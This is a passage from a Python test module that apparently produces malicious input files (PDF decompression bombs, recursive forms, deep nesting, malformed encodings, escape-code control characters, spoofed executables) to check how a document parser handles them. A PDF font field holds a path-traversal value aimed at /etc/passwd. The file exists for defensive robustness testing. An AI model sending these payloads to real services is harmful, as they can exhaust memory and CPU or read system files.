        lambda: whole.replace(b"<</Length ", b"<</Length 6 0 R/X ", 1),
        (READ, DAMAGED),
    )
    yield Attack("pdf-loop-form", "a.pdf", _form_loop, (READ, DAMAGED))
    yield Attack("pdf-many-pages", "a.pdf", lambda: pdfs.pdf(*["" for _ in range(3_000)]), (LARGE,))
    yield Attack(
        "pdf-kids",
        "a.pdf",
        lambda: whole.replace(b"/Kids[5 0 R]", b"/Kids[" + b"5 0 R " * 1_000_000 + b"]"),
        (READ, DAMAGED, LARGE),
    )
    yield Attack("pdf-flate", "a.pdf", lambda: _flate(1 << 30), (DAMAGED, LARGE, "document-memory"))
    yield Attack(
        "pdf-flate-spaces",
        "a.pdf",
        lambda: _flate(200 << 20),
        (DAMAGED, LARGE, "document-memory", "document-timeout"),
    )
    yield Attack(
        "pdf-flate-twice", "a.pdf", lambda: _flate(1 << 30, twice=True), (DAMAGED, LARGE, "document-memory")
    )
    yield Attack(
        "pdf-rules",
        "a.pdf",
        lambda: pdfs.pdf(
            "".join(
                pdfs.rule(0, n / 99, 600, n / 99) + pdfs.rule(n / 99, 0, n / 99, 400) for n in range(20_000)
            )
        ),
        (DAMAGED, LARGE, NO_TABLE, "document-timeout"),
    )
    yield Attack(
        "pdf-chars",
        "a.pdf",
        lambda: pdfs.pdf("".join(pdfs.text(n % 600, n // 600, "字" * 50) for n in range(4_000))),
        (DAMAGED, LARGE, NO_TABLE, "document-timeout", "document-memory"),
    )
    yield Attack("pdf-stack", "a.pdf", lambda: pdfs.pdf("q " * 2_000_000), (DAMAGED, LARGE))
    yield Attack("pdf-arrays", "a.pdf", lambda: pdfs.pdf("[" * 500_000), (DAMAGED, LARGE))
    yield Attack(
        "pdf-numbers",
        "a.pdf",
        lambda: pdfs.pdf("9" * 5_000_000 + " 0 m 1e308 1e308 l S " + page),
        (READ, DAMAGED, LARGE, NO_TABLE),
    )
    yield Attack(
        "pdf-box",
        "a.pdf",
        lambda: whole.replace(b"/MediaBox[0 0 600 400]", b"/MediaBox[0 0 1e300 nan]"),
        (READ, DAMAGED, NO_TABLE),
    )
    yield Attack("pdf-locked", "a.pdf", lambda: pdfs.pdf(page, trailer=pdfs.LOCKED), (LOCKED,))
    yield Attack(
        "pdf-cmap",
        "a.pdf",
        lambda: pdfs.pdf(page, font="../../../../../../etc/passwd"),
        (READ, DAMAGED, NO_TABLE),
    )


def _form_loop() -> bytes:
    form = b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>/Length 18>>\nstream\n/X Do /X Do /X Do \nendstream"
    content = pdfs.pdf("/X Do")
    start = content.index(b"6 0 obj\n") + 8
    end = content.index(b"endobj", start)
    return (content[:start] + form + b"\n" + content[end:]).replace(
        b"<</Font<<", b"<</XObject<</X 6 0 R>>/Font<<"
    )


def _flate(size: int, *, twice: bool = False) -> bytes:
    packer = zlib.compressobj(9)
    blocks = [packer.compress(b" " * (1 << 20)) for _ in range(size >> 20)]
    packed = b"".join(blocks) + packer.flush()
    filters = b"/Filter/FlateDecode"
    if twice:
        packed, filters = zlib.compress(packed, 9), b"/Filter[/FlateDecode/FlateDecode]"
    content = pdfs.pdf("x")
    start = content.index(b"6 0 obj\n") + 8
    end = content.index(b"endobj", start)
    stream = b"<</Length %d%s>>\nstream\n" % (len(packed), filters) + packed + b"\nendstream\n"
    return content[:start] + stream + content[end:]


def _text_attacks() -> Iterator[Attack]:
    yield Attack("utf-7", "a.csv", lambda: "目标,序号,服务对象".encode("utf-7") + b"\n1,2,3\n", (NO_TABLE,))
    yield Attack("utf-32", "a.csv", lambda: delimited(5).decode().encode("utf-32"), (READ,))
    yield Attack("utf-16-half", "a.csv", lambda: delimited(5).decode().encode("utf-16")[:-1], (DAMAGED,))
    yield Attack(
        "surrogates", "a.csv", lambda: delimited(5).replace("就".encode(), b"\xed\xa0\x80"), (DAMAGED,)
    )
    yield Attack("overlong", "a.csv", lambda: delimited(5) + b"\xc0\xaf\xe0\x80\xaf", (DAMAGED,))
    yield Attack(
        "json-surrogates", "a.json", lambda: json_rows(5).replace(b"\\u", b"\\ud800\\u", 3), (READ, DAMAGED)
    )
    yield Attack(
        "html-surrogates",
        "a.html",
        lambda: html_list().replace("就", "&#xD800;&#x110000;&#0;&#27;").encode(),
        (READ, DAMAGED),
    )
    yield Attack(
        "html-utf-7", "a.html", lambda: b'<meta charset="utf-7">' + html_list().encode(), (READ, DAMAGED)
    )
    yield Attack(
        "controls",
        "a.csv",
        lambda: delimited(5).replace("就近".encode(), "\u202e\u200b\u2066\ufeff\x1b[2J就".encode()),
        (READ,),
    )
    yield Attack(
        "turtle-surrogates",
        "a.ttl",
        lambda: TURTLE.replace('"义务教育', '"\\uD800义务教育', 1).encode(),
        (SYNTAX,),
    )
    yield Attack("ttl-as-docx", "a.docx", TURTLE.encode, (READ,))
    yield Attack("docx-as-ttl", "a.ttl", lambda: docx(list_table()), (READ,))
    yield Attack("docx-as-csv", "a.csv", lambda: docx(list_table()), (READ,))
    yield Attack("pdf-as-xlsx", "a.xlsx", lambda: pdfs.pdf(pdfs.text(10, 10, "x")), (NO_TABLE,))
    yield Attack("program", "a.docx", lambda: b"MZ\x90\0\3\0\0\0" + bytes(range(256)) * 16, (DAMAGED,))
    yield Attack("elf", "a.csv", lambda: b"\x7fELF\2\1\1" + bytes(range(256)) * 16, (DAMAGED,))
    yield Attack("zip", "a.docx", lambda: rezipped(_EMPTY_ZIP, {"a.txt": b"x"}), (UNSUPPORTED,))
    yield Attack("empty", "a.docx", lambda: b"", (DAMAGED,))
    yield Attack(
        "bodies",
        "a.csv",
        lambda: delimited(5).replace(
            "省民政厅".encode(),
            "、".join(f"省{chr(0x4E00 + n % 9_000)}{n}厅" for n in range(10_000)).encode(),
        ),
        (LARGE,),
    )


_EMPTY_ZIP = b"PK\5\6" + bytes(18)

ATTACKS = tuple(
    (
        *_zip_attacks(), *_xml_attacks(), *_size_attacks(), *_active_attacks(),
        *_deep_attacks(), *_rdf_attacks(), *_pdf_attacks(), *_text_attacks(),
    )
)  # fmt: skip
"""Every attack."""

HEAVY = frozenset(
    {
        *("docx-full-rows", "xlsx-rows", "txt-tab-rows", "json-rows", "pdf-rows", "html-rows", "turtle-rows"),
        *("pdf-kids", "pdf-stack", "pdf-flate", "docx-shared", "xlsx-shared", "html-spans", "txt-line"),
        *("docx-cell", "xlsx-cell", "html-cell", "json-cell", "csv-line", "xlsx-merges"),
    }
)
"""Those that take seconds, for the long run."""
